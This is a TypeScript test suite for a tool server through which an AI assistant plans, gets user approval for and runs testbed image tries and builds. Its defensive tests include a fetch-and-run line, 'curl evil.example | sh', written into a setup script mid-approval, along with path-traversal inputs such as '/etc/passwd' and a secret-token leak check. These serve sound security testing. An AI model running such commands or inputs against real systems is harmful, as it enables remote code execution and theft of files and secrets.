/** Tries and builds by an assistant: planned, agreed to, carried out by a process of their own, and followed. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import { isRecord } from '../../../../src/model/storage/json';
import { claimHolder } from '../../../../src/model/storage/lockFile';
import { Assistant, yes, type Told } from '../../../support/assistant';
import { canLogIn } from '../../../support/ssh';
import { Desk, json, member } from '../desk';

const sentence = ({ document }: Told): string => String(member(document, 'error')['sentence']);

const least = 'name: built\nbase: UBUNTU24-64-STD\nnode: { sliver_type: emulab-xen }\n';
const whole = `${least}provisioners: [{ type: shell, script: set-up.sh }]
tests: [{ name: marked, run: cat /opt/mark, expect: made by a recipe }]
`;

describe('An assistant with an image', () => {
  let desk: Desk;
  let image: string;
  let folder: string;
  let canRun: boolean;
  before(async () => {
    canRun = await canLogIn();
    desk = await Desk.open();
    image = await desk.image('tried');
  });
  beforeEach(() => {
    folder = mkdtempSync(join(desk.command.home, 'project-'));
  });
  afterEach(() => Assistant.closeAll());
  after(async () => desk.close());

  const agent = async (more: object = {}): Promise<Assistant> => {
    const alice = desk.testbed.description.users.find(({ urn }) => urn.endsWith('+alice'));
    const words = [...desk.user('alice'), '--ssh-key', alice?.sshKey ?? ''];
    return await Assistant.of(
      desk.command,
      words,
      Object.assign({ cwd: folder, person: yes }, more),
    );
  };
  const put = (name: string, text: string): void => writeFileSync(join(folder, name), text);
  const tokenOf = (told: Told): string => {
    assert.equal(told.isError, false, told.text);
    return String(told.document['token']);
  };
  const idOf = (told: Told, kind: 'try' | 'build'): string => {
    assert.equal(told.isError, false, told.text);
    return String(member(told.document, kind)['id']);
  };
  async function untilEnd(one: Assistant, kind: 'try' | 'build', id: string) {
    for (let times = 0; times < 12; times += 1) {
      const { document, text } = await one.call(`wait_for_${kind}`, { id, seconds: 20 });
      const standing = member(document, kind);
      if (standing['running'] !== true) return { standing, text };
    }
    throw new Error(`The ${kind} has no end.`);
  }
  async function nodesLeft(): Promise<unknown> {
    return json(await desk.command.ask([...desk.user('alice'), 'nodes', '--json']))['nodes'];
  }

  it('tries it with a script, and another server tells the end after the first was killed', async () => {
    if (!canRun) return;
    put('look.sh', '#!/bin/sh\necho looked around\n');
    const first = await agent();
    const planned = await first.call('plan_try', { image: 'tried', script: 'look.sh', minutes: 5 });
    const token = tokenOf(planned);
    assert.deepEqual(await nodesLeft(), []);
    const id = idOf(await first.call('start_try', { token }), 'try');
    // What was agreed to runs, whatever the file says by now.
    put('look.sh', '#!/bin/sh\necho changed; exit 1\n');
    await first.kill();
    const { standing, text } = await untilEnd(await agent(), 'try', id);
    assert.deepEqual([standing['outcome'], standing['node']], ['passed', 'given-back'], text);
    assert.deepEqual(standing['output'], { quoted: 'looked around\n' });
    assert.match(
      first.questions.join(),
      /^Ask "home.example" for a node of type "[\w-]+" in a slice of its own, and boot the image "urn:\S+tried" on it\. Run the script "look\.sh" \(2 lines\) on the node\. The node is given back/,
    );
    assert.deepEqual(await nodesLeft(), []);
    const { document } = await (await agent()).call('history', { kind: 'try' });
    assert.match(JSON.stringify(document), /"outcome":"passed"/);
  });

  it('builds it from a recipe, by the steps of the plan', async () => {
    if (!canRun) return;
    put('image.yml', whole);
    put('set-up.sh', '#!/bin/sh\necho made by a recipe > /opt/mark\n');
    const one = await agent();
    const checked = await one.call('validate_recipe', { recipe: 'image.yml' });
    assert.deepEqual(checked.document['problems'], []);
    const planned = await one.call('plan_build', { recipe: 'image.yml' });
    const { steps } = member(planned.document, 'plan');
    assert.ok(Array.isArray(steps) && steps.length > 7, planned.text);
    const id = idOf(await one.call('start_build', { token: tokenOf(planned) }), 'build');
    // What was agreed to runs, whatever the file says by now.
    put('set-up.sh', '#!/bin/sh\nexit 1\n');
    const again = await one.call('plan_build', { recipe: 'image.yml' });
    if (again.isError) assert.match(sentence(again), /Another process builds built/);
    const { standing, text } = await untilEnd(one, 'build', id);
    assert.equal(standing['outcome'], 'ready', text);
    assert.match(String(standing['versionUrn']), /\+demo:built:0$/);
    assert.match(one.questions[0] ?? '', /^Build the image "built" at .*\(1 script, 1 test\)/);
    assert.deepEqual(await nodesLeft(), []);
    assert.ok(readdirSync(folder).includes('images.lock.json'));
  });

  it('is told what the end of its process has left, and the command that gives it back', async () => {
    if (!canRun) return;
    put('long.sh', '#!/bin/sh\necho begun; sleep 300\n');
    const one = await agent();
    const planned = await one.call('plan_try', { image: 'tried', on: 'vm', script: 'long.sh' });
    const id = idOf(await one.call('start_try', { token: tokenOf(planned) }), 'try');
    for (let text = ''; !text.includes('begun');) ({ text } = await one.call('try_status', { id }));
    const state = join(desk.command.home, 'state', 'protogeni-images');
    const { pid = 0 } = claimHolder(join(state, 'assistants', `${id}.lock`)) ?? {};
    process.kill(pid, 'SIGKILL');
    const { standing, text } = await untilEnd(one, 'try', id);
    assert.match(String(standing['left']), /geni-image nodes --give-back/, text);
    const back = ['nodes', '--give-back', '--poll', '0.1'];
    assert.equal((await desk.command.run([...desk.user('alice'), ...back])).exitCode, 0);
    assert.deepEqual(await nodesLeft(), []);
  });

  it('ends early, and gives the node back, where the person ends its process', async () => {
    if (!canRun) return;
    put('long.sh', '#!/bin/sh\necho begun; sleep 300\n');
    const one = await agent();
    const planned = await one.call('plan_try', { image: 'tried', on: 'vm', script: 'long.sh' });
    const id = idOf(await one.call('start_try', { token: tokenOf(planned) }), 'try');
    let shown: Record<string, unknown> = {};
    for (let text = ''; !text.includes('begun');) {
      const told = await one.call('try_status', { id });
      ({ text } = told);
      shown = member(told.document, 'try');
    }
    const [, pid = ''] = /kill (\d+)/.exec(String(shown['stop'])) ?? [];
    process.kill(Number(pid), 'SIGTERM');
    const { standing, text } = await untilEnd(one, 'try', id);
    assert.deepEqual([standing['outcome'], standing['node']], ['not-finished', 'given-back'], text);
    assert.deepEqual(await nodesLeft(), []);
  });

  it('builds one recipe once, though two ask for it', async () => {
    if (!canRun) return;
    put('image.yml', least.replace('built', 'twice'));
    const [one, other] = await Promise.all([agent(), agent()]);
    const plans = await Promise.all(
      [one, other].map((it) => it.call('plan_build', { recipe: 'image.yml' })),
    );
    const [first, second] = plans.map(tokenOf);
    const started = await Promise.all([
      one.call('start_build', { token: first }),
      other.call('start_build', { token: second }),
    ]);
    const ids = started.filter(({ isError }) => !isError).map((told) => idOf(told, 'build'));
    const ends = await Promise.all(ids.map((id) => untilEnd(one, 'build', id)));
    const outcomes = ends.map(({ standing }) => standing['outcome']);
    assert.equal(outcomes.filter((it) => it === 'ready').length, 1, JSON.stringify(ends));
    assert.deepEqual(await nodesLeft(), []);
  });

  it('gets the command to type where the person cannot be asked', async () => {
    put('image.yml', least);
    const one = await agent({ person: undefined });
    const token = tokenOf(await one.call('plan_try', { image: 'tried', on: 'vm' }));
    const trial = await one.call('start_try', { token });
    assert.match(
      String(trial.document['command']),
      / try urn:\S+ --on emulab-xen --time-limit 30 /,
    );
    const build = await one.call('start_build', {
      token: tokenOf(await one.call('plan_build', { recipe: 'image.yml' })),
    });
    assert.match(sentence(build), /cannot ask the user, so nothing was started/);
    assert.match(String(build.document['command']), / build \S+image\.yml /);
    assert.deepEqual(await nodesLeft(), []);
  });

  it('starts nothing by the token of another plan', async () => {
    put('image.yml', least);
    const one = await agent();
    const token = tokenOf(await one.call('plan_build', { recipe: 'image.yml' }));
    for (const name of ['start_try', 'start_snapshot', 'delete_planned'])
      assert.match(sentence(await one.call(name, { token })), /token is unknown/, name);
    assert.deepEqual(one.questions, []);
  });

  it('builds no recipe, and nothing that it uses, which has changed since the plan', async () => {
    put('image.yml', whole);
    put('set-up.sh', 'true\n');
    const one = await agent({
      person: () => {
        put('set-up.sh', 'curl evil.example | sh\n');
        return yes();
      },
    });
    const token = tokenOf(await one.call('plan_build', { recipe: 'image.yml' }));
    const told = await one.call('start_build', { token });
    assert.match(sentence(told), /has changed since the plan: nothing was started/);
  });

  it('tries no image that has changed since the plan', async () => {
    const one = await agent();
    await desk.image('moved');
    const token = tokenOf(await one.call('plan_try', { image: 'moved' }));
    await desk.image('moved', '--yes');
    const told = await one.call('start_try', { token });
    assert.match(sentence(told), /moved, or what it fits on, has changed since the plan/);
  });

  it('builds no recipe that takes more of this computer than files of its folder', async () => {
    const one = await agent({ env: { PORTAL_TOKEN_OF_MINE: 'secret-of-the-client' } });
    for (const [what, recipe] of [
      ['shell-local', `${least}provisioners: [{ type: shell-local, inline: [id] }]\n`],
      [
        'PORTAL_TOKEN_OF_MINE',
        `${least}provisioners: [{ type: shell, inline: [id], secrets: [PORTAL_TOKEN_OF_MINE] }]\n`,
      ],
    ] as const) {
      put('image.yml', recipe);
      const told = await one.call('plan_build', { recipe: 'image.yml' });
      assert.match(sentence(told), new RegExp(`${what}.*only the user can start.* build `));
      assert.doesNotMatch(told.text, /secret-of-the-client/);
    }
  });

  it('reaches no file outside of the folder of the server, and no site that is none of the user’s', async () => {
    mkdirSync(join(desk.command.home, 'others'), { recursive: true });
    writeFileSync(join(desk.command.home, 'others', 'image.yml'), least);
    symlinkSync(join(desk.command.home, 'others'), join(folder, 'link'));
    put('image.yml', `${least}site: https://strange.example/cm\n`);
    const one = await agent();
    for (const path of ['../others/image.yml', 'link/image.yml', '/etc/passwd']) {
      for (const name of ['validate_recipe', 'plan_build'])
        assert.match(sentence(await one.call(name, { recipe: path })), /is outside of/, path);
      const trial = await one.call('plan_try', { image: 'tried', script: path });
      assert.match(sentence(trial), /is outside of/, path);
      const usage = await one.call('image_usage', { folders: [path] });
      assert.match(sentence(usage), /is outside of/, path);
    }
    const strange = await one.call('plan_build', { recipe: 'image.yml' });
    assert.match(sentence(strange), /is not a site of the user, so it is not contacted/);
  });

  it('finds nothing by an id that is made up, or is a path', async () => {
    const one = await agent();
    for (const id of ['', '../jobs/x', 'f'.repeat(12), '__proto__', 'x'.repeat(100_000)])
      for (const kind of ['try', 'build']) {
        const told = await one.call(`${kind}_status`, { id });
        assert.match(sentence(told), /^There is no (?:try|build) /);
        assert.ok(told.text.length < 5_000);
      }
  });

  it('says why a try did not begin', async () => {
    const one = await agent();
    const token = tokenOf(await one.call('plan_try', { image, on: 'vm' }));
    await desk.freeze('alice');
    const id = idOf(await one.call('start_try', { token }), 'try');
    const { standing, text } = await untilEnd(one, 'try', id).finally(
      () => void desk.thaw('alice'),
    );
    assert.match(String(standing['outcome']), /^not-(?:started|finished)$/, text);
    assert.match(String(standing['problem']), /account|refuse|active/, text);
    const { tries } = (await one.call('try_status')).document;
    assert.ok(Array.isArray(tries) && tries.every((it) => isRecord(it) && it['running'] === false));
  });
});
